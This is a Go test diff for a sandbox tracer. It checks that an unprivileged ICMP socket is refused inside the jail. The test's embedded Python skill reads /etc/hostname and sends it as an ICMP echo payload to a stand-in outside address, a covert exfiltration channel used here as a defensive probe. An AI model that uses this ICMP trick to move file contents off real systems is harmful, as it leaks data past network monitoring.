@@ -273,3 +273,43 @@ func traceCLIOut(t *testing.T, out string, args ...string) cliRun {
 	}
 	return r
 }
+
+// TestTraceICMPRefused: an unprivileged ICMP echo socket, which Docker
+// allows by default and whose payload no sink would see, is refused in the
+// jail's namespace; the attempt is in the trace as the call that failed.
+func TestTraceICMPRefused(t *testing.T) {
+	if testing.Short() {
+		t.Skip("end-to-end")
+	}
+	testenv.Image(t)
+	dir := skillDir(t, "net-check", `python3 -c "
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+s.sendto(b'\x08\x00\x00\x00\x00\x01\x00\x01' + open('/etc/hostname', 'rb').read(), ('198.51.100.9', 0))
+print('sent')
+"`)
+	out := t.TempDir()
+	r := traceCLIOut(t, out, "--format", "json", "--timeout", "4m", dir)
+	defer assertNothingLeft(t, r.report.TraceID)
+	var rep struct {
+		ToolCalls []struct {
+			Result struct {
+				ExitCode int    `json:"exit_code"`
+				Stdout   string `json:"stdout"`
+				Stderr   string `json:"stderr"`
+			} `json:"result"`
+		} `json:"tool_calls"`
+	}
+	b, err := os.ReadFile(filepath.Join(out, "report.json"))
+	if err != nil {
+		t.Fatalf("no report (exit %d): %s", r.code, r.stderr)
+	}
+	json.Unmarshal(b, &rep)
+	if len(rep.ToolCalls) != 1 {
+		t.Fatalf("%d tool calls", len(rep.ToolCalls))
+	}
+	res := rep.ToolCalls[0].Result
+	if res.ExitCode == 0 || strings.Contains(res.Stdout, "sent") || !strings.Contains(res.Stderr, "Permission denied") {
+		t.Errorf("the ICMP socket was not refused: exit %d, stdout %q, stderr %q", res.ExitCode, res.Stdout, res.Stderr)
+	}
+}
